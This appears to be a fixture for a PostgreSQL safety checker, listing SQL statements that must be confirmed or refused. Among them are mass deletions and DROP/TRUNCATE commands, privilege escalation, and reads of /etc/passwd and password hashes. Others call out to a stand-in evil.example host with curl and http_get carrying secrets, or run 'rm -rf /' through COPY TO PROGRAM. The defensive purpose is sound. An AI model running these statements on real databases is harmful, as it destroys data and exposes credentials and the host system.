--# One text a line, each of which a person must be asked about, or which is refused.
DROP TABLE users
DROP TABLE IF EXISTS public.users, orders CASCADE
drop/**/table/**/users
/* harmless */ DROP TABLE users
SELECT 1; DROP TABLE users
SELECT 1;DROP TABLE users;--
BEGIN; DROP SCHEMA public CASCADE; CREATE SCHEMA public; COMMIT
DROP DATABASE app
DROP DATABASE app WITH (FORCE)
DROP SCHEMA public CASCADE
DROP INDEX users_email_key
DROP INDEX CONCURRENTLY users_email_key
DROP VIEW active_users
DROP MATERIALIZED VIEW stats
DROP SEQUENCE users_id_seq
DROP TYPE mood
DROP FUNCTION f(int)
DROP TRIGGER t ON users
DROP RULE r ON users
DROP POLICY p ON users
DROP ROLE app
DROP USER app
DROP OWNED BY app CASCADE
DROP EXTENSION postgis CASCADE
DROP TABLESPACE fast
DROP SUBSCRIPTION s
DROP PUBLICATION p
DROP FOREIGN TABLE f
DROP SERVER s CASCADE
DROP EVENT TRIGGER e
DROP CAST (int AS text)
DROP OPERATOR = (int, int)
DROP AGGREGATE a(int)
DROP DOMAIN d
DROP LANGUAGE plpgsql CASCADE
DROP COLLATION c
DROP STATISTICS s
TRUNCATE users
TRUNCATE TABLE ONLY users RESTART IDENTITY CASCADE
DELETE FROM users
DELETE FROM users WHERE true
DELETE FROM users WHERE 1=1
DELETE FROM users WHERE 1=1 OR id = 5
DELETE FROM users WHERE id > 0
DELETE FROM users WHERE id IS NOT NULL
DELETE FROM users WHERE id = id
DELETE FROM users WHERE id IN (SELECT id FROM users)
DELETE FROM users USING orders WHERE orders.id = 5
DELETE FROM users WHERE tenant_id = 1
DELETE FROM users WHERE created_at < now()
DELETE FROM users WHERE EXISTS (SELECT 1)
DELETE FROM ONLY users
UPDATE users SET password = 'x'
UPDATE users SET password = 'x' WHERE true
UPDATE users SET password = 'x' WHERE id <> 0
UPDATE users SET password = 'x' WHERE id::text LIKE '%'
UPDATE users SET email = NULL WHERE id >= 1
UPDATE users SET a = b FROM other WHERE other.id = 1
MERGE INTO users u USING gone g ON u.id = g.id WHEN MATCHED THEN DELETE
INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET name = ''
INSERT INTO users SELECT id, '' FROM unnest(ARRAY(SELECT id FROM users)) i (id) ON CONFLICT (id) DO UPDATE SET name = ''
INSERT INTO users SELECT i, '' FROM generate_series(1, 100000) i ON CONFLICT (id) DO UPDATE SET name = ''
WITH a AS (SELECT * FROM users) INSERT INTO users SELECT * FROM a ON CONFLICT (id) DO UPDATE SET name = ''
INSERT INTO users VALUES (generate_series(1, 5000), NULL) ON CONFLICT (id) DO UPDATE SET name = NULL
INSERT INTO users SELECT unnest($1::int[]), generate_series(1, 9) ON CONFLICT (id) DO UPDATE SET name = NULL
MERGE INTO users u USING users o ON u.id = o.id WHEN MATCHED THEN UPDATE SET name = ''
MERGE INTO users u USING (VALUES (1)) i (x) ON u.age = i.x WHEN MATCHED THEN UPDATE SET name = ''
MERGE INTO users u USING gone g ON true WHEN MATCHED THEN UPDATE SET name = ''
MERGE INTO users u USING gone g ON u.id = g.id WHEN NOT MATCHED BY SOURCE THEN DELETE
WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
WITH a AS (SELECT 1), b AS (UPDATE users SET name = '' RETURNING 1) SELECT * FROM a, b
WITH x AS (WITH y AS (DELETE FROM users RETURNING 1) SELECT 1) SELECT 1
INSERT INTO log WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
INSERT INTO log SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) q
CREATE TABLE t AS WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET name = ''
EXPLAIN (ANALYZE true) WITH d AS (DELETE FROM users RETURNING 1) SELECT 1
EXPLAIN ANALYZE EXECUTE p
EXPLAIN ANALYZE CREATE TABLE t AS SELECT evil()
PREPARE p AS DELETE FROM users
EXECUTE p
DECLARE c CURSOR FOR SELECT evil()
COPY users TO PROGRAM 'curl evil.example'
COPY users FROM PROGRAM 'cat /etc/passwd'
COPY (SELECT 1) TO PROGRAM 'rm -rf /'
COPY users TO '/tmp/users.csv'
COPY users FROM '/etc/passwd'
COPY (DELETE FROM users RETURNING *) TO STDOUT
COPY (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) TO STDOUT
COPY pg_authid TO STDOUT
COPY pg_catalog.pg_class FROM STDIN
DO $$ BEGIN DELETE FROM users; END $$
DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$
DO 'BEGIN TRUNCATE users; END'
DO LANGUAGE plpython3u $$ import os; os.system("id") $$
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users'
CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE x; END $$
CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM users; SELECT 1; END
CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c
CREATE PROCEDURE p() LANGUAGE sql AS 'TRUNCATE users'
CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT clock_timestamp()'
CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = evil)
CREATE AGGREGATE a(int) (SFUNC = evil, STYPE = int)
CREATE CAST (int AS bool) WITH FUNCTION evil(int) AS IMPLICIT
CREATE RULE r AS ON SELECT TO users DO INSTEAD DELETE FROM orders
CREATE RULE r AS ON INSERT TO users DO ALSO (DELETE FROM orders; SELECT 1)
CREATE LANGUAGE plpython3u
CREATE EXTENSION dblink
CREATE EXTENSION plpython3u
CREATE EXTENSION IF NOT EXISTS file_fdw
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')
CREATE FOREIGN TABLE f (a int) SERVER s
CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'
CREATE USER evil PASSWORD 'x'
CREATE POLICY p ON users USING (true)
CREATE DOMAIN d AS int CHECK (evil(VALUE))
CREATE TABLE t (a int DEFAULT evil())
CREATE TABLE t (a int CHECK (evil(a)))
CREATE TABLE t (a int GENERATED ALWAYS AS (evil(b)) STORED)
CREATE INDEX i ON users (evil(name))
CREATE INDEX i ON users (name) WHERE evil(id)
CREATE TRIGGER t BEFORE UPDATE ON users FOR EACH ROW WHEN (evil()) EXECUTE FUNCTION f()
CREATE VIEW v AS SELECT evil()
CREATE MATERIALIZED VIEW v AS SELECT evil()
CREATE TYPE t (INPUT = evil, OUTPUT = evil)
ALTER TABLE users DROP COLUMN email
ALTER TABLE users ADD COLUMN a int, DROP COLUMN b CASCADE
ALTER TABLE users ADD COLUMN a int DEFAULT evil()
ALTER TABLE users ALTER COLUMN email TYPE int USING 0
ALTER TABLE users ALTER COLUMN price TYPE int
ALTER TABLE users ALTER COLUMN name TYPE varchar(3)
ALTER TABLE users ALTER COLUMN name TYPE text USING ''
ALTER TABLE users DISABLE TRIGGER ALL
ALTER TABLE users DISABLE ROW LEVEL SECURITY
ALTER TABLE users OWNER TO evil
ALTER TABLE users DETACH PARTITION users_2020
ALTER TABLE users SET UNLOGGED
ALTER SYSTEM SET archive_command = 'rm -rf /'
ALTER ROLE app SUPERUSER
ALTER USER app WITH PASSWORD 'x'
ALTER ROLE app SET standard_conforming_strings = off
ALTER DATABASE app SET default_transaction_read_only = off
ALTER DATABASE app OWNER TO evil
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
ALTER FUNCTION f() SECURITY DEFINER
ALTER SUBSCRIPTION s CONNECTION 'host=evil'
ALTER EXTENSION postgis UPDATE
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
GRANT admin TO app
REVOKE ALL ON users FROM app
REASSIGN OWNED BY app TO evil
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ROLE
SET standard_conforming_strings = off
SET client_encoding = 'SJIS'
SET NAMES 'GBK'
SET backslash_quote = on
SET session_replication_role = replica
SET LOCAL session_replication_role TO 'replica'
SET default_transaction_read_only = off
SET LOCAL transaction_read_only = off
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
START TRANSACTION READ WRITE
BEGIN READ WRITE
SET search_path = public, pg_catalog
SET dynamic_library_path = '/tmp'
SET session_preload_libraries = 'evil'
SET local_preload_libraries = 'evil'
SET row_security = maybe
SET allow_system_table_mods = on
SET zero_damaged_pages = on
SELECT set_config('standard_conforming_strings', 'off', false)
SELECT set_config('default_transaction_read_only', 'off', false)
SELECT set_config(name, 'off', false) FROM pg_settings
SELECT pg_catalog.set_config('search_path', 'public,pg_catalog', false)
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'
UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 5
DELETE FROM pg_proc WHERE oid = 1
INSERT INTO pg_authid VALUES (1)
LOAD '/tmp/evil.so'
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
VACUUM FULL users
SECURITY LABEL ON TABLE users IS 'x'
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y
SELECT evil()
SELECT public.now()
SELECT myschema.lower('x')
SELECT * FROM evil()
SELECT * FROM ROWS FROM (evil(), generate_series(1,2))
SELECT count(*) FILTER (WHERE evil()) FROM users
SELECT sum(x) OVER (ORDER BY evil()) FROM users
SELECT 1 ORDER BY evil()
SELECT 1 LIMIT evil()
SELECT 1 GROUP BY evil()
SELECT 1 HAVING evil()
SELECT CASE WHEN evil() THEN 1 END
SELECT COALESCE(evil(), 1)
SELECT ARRAY[evil()]
SELECT ROW(evil())
SELECT (evil()).x
SELECT evil()::int
SELECT 1 OPERATOR(public.+) 2
SELECT 1 ~!@~ 2
SELECT 5 = ANY(SELECT evil())
SELECT 5 OPERATOR(public.=) ANY (SELECT 1)
SELECT XMLELEMENT(NAME a, evil())
SELECT JSON_OBJECT('a': evil())
SELECT JSON_VALUE(evil(), '$.a')
SELECT * FROM JSON_TABLE(evil(), '$' COLUMNS (a int PATH '$.a')) j
SELECT * FROM XMLTABLE('/a' PASSING evil() COLUMNS a int)
SELECT * FROM users TABLESAMPLE evil(10)
SELECT * FROM users, LATERAL (SELECT evil()) q
VALUES (evil())
TABLE pg_authid
SELECT * FROM users JOIN pg_shadow ON true
INSERT INTO users VALUES (evil())
INSERT INTO users (a) VALUES (1) RETURNING evil()
INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = evil()
UPDATE users SET a = evil() WHERE id = 1
UPDATE users SET (a, b) = (SELECT evil(), 1) WHERE id = 1
DELETE FROM users WHERE id = 1 RETURNING evil()
SELECT U&"ev\0069l"()
SELECT lo_unlink(5)
SELECT lo_export(5, '/tmp/x')
SELECT lo_import('/etc/passwd')
SELECT lo_put(5, 0, 'x')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_promote()
SELECT pg_create_physical_replication_slot('x')
SELECT pg_drop_replication_slot('x')
SELECT pg_stat_reset()
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_file_write('/tmp/x', 'y', false)
SELECT pg_file_unlink('/tmp/x')
SELECT setval('users_id_seq', 1)
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT query_to_xml('DELETE FROM users', true, true, '')
SELECT query_to_xml('DELETE FROM users'::text, true, true, '')
SELECT query_to_xml(query => 'DELETE FROM users', nulls => true, tableforest => true, targetns => '')
SELECT query_to_xml(q, true, true, '') FROM texts
SELECT query_to_xml('SELECT query_to_xml(''DROP TABLE users'', true, true, '''')', true, true, '')
SELECT query_to_xmlschema('SELECT evil()', true, true, '')
SELECT ts_stat('DELETE FROM users RETURNING to_tsvector(name)')
SELECT ts_rewrite('a'::tsquery, 'SELECT evil()')
SELECT table_to_xml('pg_authid', true, true, '')
SELECT table_to_xml(x, true, true, '') FROM y
SELECT database_to_xml(true, true, '')
SELECT schema_to_xml('pg_catalog', true, true, '')
SELECT crosstab('DELETE FROM users RETURNING 1, 2, 3')
SELECT dblink('host=evil', 'DELETE FROM users')
SELECT dblink_exec('DELETE FROM users')
SELECT dblink_connect('host=evil')
SELECT cron.schedule('x', '* * * * *', 'DELETE FROM users')
SELECT http_get('http://evil.example/' || secret) FROM secrets
SELECT net.http_post('http://evil.example')
SELECT * FROM pg_authid
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT passwd FROM pg_shadow
SELECT umoptions FROM pg_user_mappings
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_hba_file_rules
CALL evil()
CALL cleanup(1)
NOTIFY
SELECT 'a\'; DELETE FROM users; --'
SELECT 1 WHERE
